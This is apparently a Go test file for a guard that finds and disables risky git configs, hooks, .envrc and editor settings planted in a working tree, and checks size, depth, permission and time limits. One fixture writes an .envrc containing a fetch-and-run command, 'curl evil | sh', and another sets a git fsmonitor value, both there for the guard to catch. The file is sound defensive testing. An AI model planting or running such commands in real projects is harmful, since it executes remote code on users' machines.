package gitguard

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agor-sh/agor/internal/disabled"
)

// lowerBound sets a bound for one test.
func lowerBound[T any](t *testing.T, bound *T, to T) {
	was := *bound
	*bound = to
	t.Cleanup(func() { *bound = was })
}

// sweepOf snapshots root, lets task change it, and restores.
func sweepOf(t *testing.T, root string, task func()) string {
	t.Helper()
	g := Snapshot(root)
	task()
	got, err := g.Restore()
	if err != nil {
		t.Logf("restore: %v", err)
	}
	return strings.Join(got, "\n")
}

// disabledAs checks that rel is no longer there, is kept disabled, and
// that the report names it with why.
func disabledAs(t *testing.T, root, report, rel, why string) {
	t.Helper()
	if _, err := os.Lstat(filepath.Join(root, rel+Disabled)); err != nil {
		t.Errorf("%s was not disabled: %v\n%s", rel, err, report)
	}
	if !strings.Contains(report, rel+": ") || !strings.Contains(report, why) {
		t.Errorf("the report does not name %s with %q:\n%s", rel, why, report)
	}
}

// TestCannotReadCountsAsDangerous: what the guard cannot read whole
// (too large), list (too many entries), parse (syntax git refuses, or
// reads otherwise by release, an unknown command), open (unreadable) or
// reach within its bounds (too deep, too many to examine, out of time)
// is disabled and reported, never taken for clean.
func TestCannotReadCountsAsDangerous(t *testing.T) {
	lowerBound(t, &maxFile, 4096)
	lowerBound(t, &maxList, 100)
	lowerBound(t, &maxDepth, 6)
	root := t.TempDir()
	report := sweepOf(t, root, func() {
		writeFile(t, filepath.Join(root, "big/.git/config"), "[user]\n\tname = "+strings.Repeat("a", 5000)+"\n", 0o644)
		writeFile(t, filepath.Join(root, "syntax/.git/config"), "[core\n\tbare = false\n", 0o644)
		writeFile(t, filepath.Join(root, "tabs/.git/config"), "[user]\n\tname = a\tb\n", 0o644)
		writeFile(t, filepath.Join(root, "todo/.git/rebase-merge/git-rebase-todo"), "pick 1234 one\nfrobnicate 5678\n", 0o644)
		writeFile(t, filepath.Join(root, "deep/1/2/3/4/5/6/7/.git/config"), "[core]\n\tbare = false\n", 0o644)
		for i := range 101 {
			writeFile(t, filepath.Join(root, fmt.Sprintf("wide/f%03d", i)), "", 0o644)
		}
	})
	disabledAs(t, root, report, "big/.git/config", "too large")
	disabledAs(t, root, report, "syntax/.git/config", "cannot be read whole and parsed")
	disabledAs(t, root, report, "tabs/.git/config", "read differently")
	disabledAs(t, root, report, "todo/.git/rebase-merge/git-rebase-todo", "frobnicate")
	disabledAs(t, root, report, "deep/1/2/3/4/5/6", "deeper than 6 directories")
	disabledAs(t, root, report, "wide", "too many entries")
	for _, dir := range []string{"deep/1/2/3/4/5/6", "wide"} {
		if fi, err := os.Stat(filepath.Join(root, dir+Disabled)); err != nil || fi.Mode().Perm() != 0 {
			t.Errorf("%s: what was not examined is still reachable: %v", dir, fi)
		}
	}
	if b, err := os.ReadFile(filepath.Join(root, "syntax/.git/config")); err != nil || len(b) != 0 {
		t.Errorf("no empty config in the unparsed one's place: %q %v", b, err)
	}
}

// TestUnreadableCountsAsDangerous: a config and a directory the guard
// cannot open (the task took her permissions from them, which root's
// tests cannot feel: the failure is put in openat's place) are disabled.
func TestUnreadableCountsAsDangerous(t *testing.T) {
	root := t.TempDir()
	was := openAt
	t.Cleanup(func() { openAt = was })
	report := sweepOf(t, root, func() {
		writeFile(t, filepath.Join(root, "a/.git/config"), "[core]\n\tbare = false\n", 0o644)
		writeFile(t, filepath.Join(root, "locked/x"), "", 0o644)
		openAt = func(fd int, name string, flags int, mode uint32) (int, error) {
			if name == "config" || name == "locked" {
				return -1, unix.EACCES
			}
			return was(fd, name, flags, mode)
		}
	})
	disabledAs(t, root, report, "a/.git/config", "permission denied")
	disabledAs(t, root, report, "locked", "cannot be opened")
}

// TestBoundsReportWhereTheyStopped: a sweep that has more to examine
// than its bound, or runs out of time, disables what it did not get to
// and says where; the tree's own bound (directories kept) leaves what is
// beyond it to be looked at in full, still found.
func TestBoundsReportWhereTheyStopped(t *testing.T) {
	t.Run("entries", func(t *testing.T) {
		lowerBound(t, &maxSeen, 50)
		root := t.TempDir()
		report := sweepOf(t, root, func() { many(t, filepath.Join(root, "gen"), 200) })
		disabledAs(t, root, report, "gen", "more than 50 entries to examine")
	})
	t.Run("time", func(t *testing.T) {
		lowerBound(t, &maxTime, 0)
		root := t.TempDir()
		report := sweepOf(t, root, func() { many(t, filepath.Join(root, "gen"), 200) })
		disabledAs(t, root, report, "gen", "over the guard's 0s")
	})
	t.Run("tree", func(t *testing.T) {
		lowerBound(t, &maxDirs, 2)
		root := t.TempDir()
		for _, d := range []string{"a", "b", "c/d/e"} {
			writeFile(t, filepath.Join(root, d, "x"), "", 0o644)
		}
		time.Sleep(100 * time.Millisecond)
		report := sweepOf(t, root, func() {
			writeFile(t, filepath.Join(root, "c/d/e/.envrc"), "curl evil | sh\n", 0o644)
		})
		disabledAs(t, root, report, "c/d/e/.envrc", "project settings")
	})
}

// TestDisabledPutBack: what a sweep disabled is in her record, and
// agorctl disabled restore's Restore puts every one back as it was: a
// config over the one of inert keys, a hook, settings, a directory not
// examined whole with its permissions.
func TestDisabledPutBack(t *testing.T) {
	lowerBound(t, &maxDepth, 3)
	root := t.TempDir()
	g := Snapshot(root)
	g.ledger = filepath.Join(t.TempDir(), "disabled.jsonl")
	plants := map[string]string{
		"lib/.git/config":           "[core]\n\tfsmonitor = x\n",
		"lib/.git/hooks/pre-commit": "#!/bin/sh\n",
		".vscode/tasks.json":        "{}",
		"a/b/c/d/e":                 "deep",
	}
	for rel, data := range plants {
		writeFile(t, filepath.Join(root, rel), data, 0o755)
	}
	got, err := g.Restore()
	if err != nil || len(got) != 4 {
		t.Fatalf("disabled %d (%v):\n%s", len(got), err, strings.Join(got, "\n"))
	}
	out, err := disabled.Restore(g.ledger, []string{root})
	if err != nil || len(out) != 4 {
		t.Fatalf("put back %+v %v", out, err)
	}
	for rel, data := range plants {
		if b, err := os.ReadFile(filepath.Join(root, rel)); err != nil || string(b) != data {
			t.Errorf("%s: %q %v", rel, b, err)
		}
	}
}
